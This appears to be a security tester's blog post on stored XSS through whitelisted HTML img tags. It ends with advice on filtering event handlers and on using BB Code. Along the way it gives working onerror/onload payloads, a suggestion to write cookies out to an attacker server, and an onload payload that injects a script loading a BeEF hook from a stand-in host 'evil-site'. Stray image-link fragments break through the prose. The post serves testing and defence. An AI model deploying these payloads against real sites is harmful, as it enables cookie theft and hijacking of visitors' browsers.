Exotic XSS: The HTML Image Tag

There are the usual XSS tests.  And then there are the fun ones.  This is a story about a more exotic approach to testing XSS….

I was testing a company that had passed all XSS tests from their pentester.  I found that they allowed users to write HTML tags.  Of course they didn’t permit <script> tags or <iframe> tags.  (Well, they did allow those, but that was an oops - no server side filtering.)  This company had whitelisted a variety of “safe” tags for use by clients.

That’s boring, right?  Heh, thanks to Ron, I had a way to abuse their whitelist.  (I’ve since found this in Web Application Hackers Handbook, but I seem to have overlooked it at the time I read it.)  Three HTML 4 tags in particular allow javascript tobe run from one of the elements and these are: <img>, <object>, and <style>. You are really unlikely to see <object> and <style> tags permitted, but <img> tags are a bit more common.  Note: since my work on this site, I’ve seen RSnake’s page and otherpages that talk about using <img src=”alert(‘XSS’)”>.  That was nice in the past, but none of my current version browsers will execute that.  (Makes me wonder if the whole tracking image thing from emails of yesteryear still works, but that’s a rabbit trail.  If you know, post a comment.)  Still, just because I can’t source the javascript, doesn’t mean I can’t execute javascript….  We’ll use different HTML 4 elements.

Now, in my scenario, I decided to input <img src=”blah.jpg” onerror=”alert(‘XSS’)”/> and reloaded the page.  BINGO! I got a popup box.  This also works and has the advantage of a working image: <img src=”realimage.png” onload=”alert(‘XSS’)”/>.

That’s cool.  It’s really easy to check that off on your list and say “vulnerable to XSS.”  But, can you do anything besides popping boxes?  Doing something would be useful.  I had a question about all this, “will these elements support more than an alert box or is this a useless novelty?”  More tests were in order.

So, then we could replace alert() with document.write() and write the cookie to our server. This swipes cookies and that’s better than a popup.  But why stop there?

Why not create a <script> on the page itself?  What’s that you say?  <script>isn’t on the whitelist?  So, your point?  If your browser creates the <script> locally, it can’t be filtered, now can it?

Thanks to Mak (@mak_kolybabi) for giving me some of the tips I needed to get this going in the correct direction.

How about we try this:

<img onload=”var s = document.createElement(‘script’); s.src=’http://evil-site/beef/hook/beefmagic.js.php’;document.getElementsByTagName(‘head’)[0].appendChild(s);” src=”real_image.jpg” />

We have a image that triggers the onload element.  Now we tell the browser to create a script element.  You may not be able to write <script>, but you are able to write the word “script.”  The createElementfunction tells the browser to create the <script></script>.  It’s local to the client and the server has no idea.  :-D

Then we give the source element (what else would you use but BeEF?) and then we place our new element into the page.  Viola! You’ve just turned a simple <img> tag into stored XSS….

I have noticed that using onload=”local_function(),” IE8 and FF3.6 have “issues.”  Not sure what it is quite yet.

I spent a few moments looking around to see if I could locate websites that allow you to use HTML tags.  From a cursory perspective, Slashdot is safe, so is Digg, and most forums are now using BB Code.  So, how useful is this?  I’d wager it’s probably a last resort. If you chained attacks you could potentially use it.  Suppose you bypassed the front line of defense (like so) in a manner that allowed you to write tags, but ran into some sort of whitelist filtering on the server preventing <script> tags.  Now you have a way to create script tags while evading the filter.

We’re not done yet….

Now, you might think that all of this is trivial and not very important.  I mean seriously, who allows users to write tags at all?  Let’s look forward for a moment.  HTML5 is coming.  According to this site (and I have to think that they would know), we find this beautiful bit of information: all event handlers must be supported by all elements, or something like that.  And there are a bunch of new event handlers.

In other words, not only do we have access toonload/onerror in every element, we get lots more….  Stored XSS will be everywhere for years.  All these wannabe web guys who implement the cool new whizbang HTML5 as soon as it ships, will be running huge risks unless they carefully filter out event handlers.  (At least they need to prevent users from implementing event handlers.)  We’ve seen how well this has worked in the past, so my hopes for reasonably secure implementation are exactly nonexistent.

And if you have a site that you want to allow users to write tags, try switching to BB Code.  It’s safer.  Well, in 10minutes of testing I didn’t see how to bypass it as it doesn’t support anything.  :-D

Currently, I am developing a page that will test a browser’s support of HTML 5 action events.  If you have suggestions or tips, send them my way.  I’m currently muddling through my coding.

Oh and just think about what would happen if someone accidentally on purpose managed to rewrite the <img> elementon www.digg.com or www.google.com.  Would anyone ever notice?  How long would ittake to find it?  Seriously, looking for acompromise, who’d look at the official logo for the infection?  Enjoy your nightmares people.Join the conversation onthis Mastodon post (replies will appear below)!

    Loading comments...